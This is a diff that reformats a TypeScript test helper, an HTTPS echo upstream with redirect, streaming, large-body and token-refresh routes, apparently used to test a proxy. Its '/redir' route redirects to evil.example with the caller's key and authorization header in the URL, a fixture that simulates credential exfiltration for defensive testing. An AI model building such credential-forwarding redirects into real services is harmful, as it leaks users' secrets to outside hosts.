@@ -52,12 +52,23 @@ const tick = (): Promise<void> => new Promise((r) => setImmediate(r));
 
 /** Starts the echo upstream on 127.0.0.1. `refreshToken` is the refresh token its token endpoint accepts first. */
 export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstream> {
-  const state = { seen: [] as EchoUpstream['seen'], wsSeen: [] as string[], wsGreeting: [] as string[], issued: [] as string[], refreshToken, refreshGrants: [] as string[], bigWritten: 0 };
-  const server = https.createServer({ key: fs.readFileSync(path.join(TLS_DIR, 'upstream-key.pem')), cert: fs.readFileSync(path.join(TLS_DIR, 'upstream-cert.pem')) }, (req, res) => {
-    const parts: Buffer[] = [];
-    req.on('data', (c: Buffer) => parts.push(c));
-    req.on('end', () => void answer(req, res, Buffer.concat(parts).toString('utf8')).catch(() => res.destroy()));
-  });
+  const state = {
+    seen: [] as EchoUpstream['seen'],
+    wsSeen: [] as string[],
+    wsGreeting: [] as string[],
+    issued: [] as string[],
+    refreshToken,
+    refreshGrants: [] as string[],
+    bigWritten: 0,
+  };
+  const server = https.createServer(
+    { key: fs.readFileSync(path.join(TLS_DIR, 'upstream-key.pem')), cert: fs.readFileSync(path.join(TLS_DIR, 'upstream-cert.pem')) },
+    (req, res) => {
+      const parts: Buffer[] = [];
+      req.on('data', (c: Buffer) => parts.push(c));
+      req.on('end', () => void answer(req, res, Buffer.concat(parts).toString('utf8')).catch(() => res.destroy()));
+    },
+  );
   async function answer(req: http.IncomingMessage, res: http.ServerResponse, body: string): Promise<void> {
     const url = new URL(req.url ?? '/', 'https://upstream.test');
     state.seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers, body });
@@ -68,7 +79,11 @@ export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstr
     const got = String(req.headers['x-api-key'] ?? req.headers.authorization ?? '');
     switch (url.pathname) {
       case '/redir':
-        res.writeHead(302, { ...echoHeaders, location: `https://evil.example/landing?key=${url.searchParams.get('key') ?? ''}&auth=${encodeURIComponent(got)}`, 'content-length': 0 });
+        res.writeHead(302, {
+          ...echoHeaders,
+          location: `https://evil.example/landing?key=${url.searchParams.get('key') ?? ''}&auth=${encodeURIComponent(got)}`,
+          'content-length': 0,
+        });
         return void res.end();
       case '/sse': {
         res.writeHead(200, { ...echoHeaders, 'content-type': 'text/event-stream' });
@@ -105,7 +120,11 @@ export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstr
       case '/big': {
         // BIG_BYTES of incompressible data (gzip when ?coding=gzip), written only as fast as the reader takes it.
         const gzip = url.searchParams.get('coding') === 'gzip';
-        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/octet-stream', ...(gzip ? { 'content-encoding': 'gzip' } : { 'content-length': BIG_BYTES }) });
+        res.writeHead(200, {
+          ...echoHeaders,
+          'content-type': 'application/octet-stream',
+          ...(gzip ? { 'content-encoding': 'gzip' } : { 'content-length': BIG_BYTES }),
+        });
         const sink = gzip ? zlib.createGzip() : res;
         if (gzip) (sink as zlib.Gzip).pipe(res);
         state.bigWritten = 0;
@@ -137,7 +156,11 @@ export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstr
     }
     state.refreshGrants.push(fields.refresh_token!);
     const n = crypto.randomBytes(12).toString('hex');
-    const t = { access_token: `at-new-${n}-access-token-value`, refresh_token: `rt-new-${n}-refresh-token-value`, id_token: `eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.idsig-new-${n}-signature` };
+    const t = {
+      access_token: `at-new-${n}-access-token-value`,
+      refresh_token: `rt-new-${n}-refresh-token-value`,
+      id_token: `eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.idsig-new-${n}-signature`,
+    };
     state.issued.push(t.access_token, t.refresh_token, t.id_token);
     state.refreshToken = t.refresh_token;
     const shape = url.searchParams.get('shape');
@@ -147,7 +170,14 @@ export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstr
     else if (shape === 'formjson') text = new URLSearchParams({ ...t, expires_in: '3600', token_type: 'Bearer' }).toString();
     else text = JSON.stringify({ ...t, expires_in: 3600, token_type: 'Bearer' });
     const coding = url.searchParams.get('coding') ?? 'gzip';
-    const encoded = coding === 'deflate' ? zlib.deflateSync(text) : coding === 'br' ? zlib.brotliCompressSync(Buffer.from(text)) : coding === 'zstd' ? Buffer.from(text) : zlib.gzipSync(text);
+    const encoded =
+      coding === 'deflate'
+        ? zlib.deflateSync(text)
+        : coding === 'br'
+          ? zlib.brotliCompressSync(Buffer.from(text))
+          : coding === 'zstd'
+            ? Buffer.from(text)
+            : zlib.gzipSync(text);
     res.writeHead(200, { 'content-type': type, 'content-encoding': coding, 'content-length': encoded.length });
     res.end(encoded);
   }
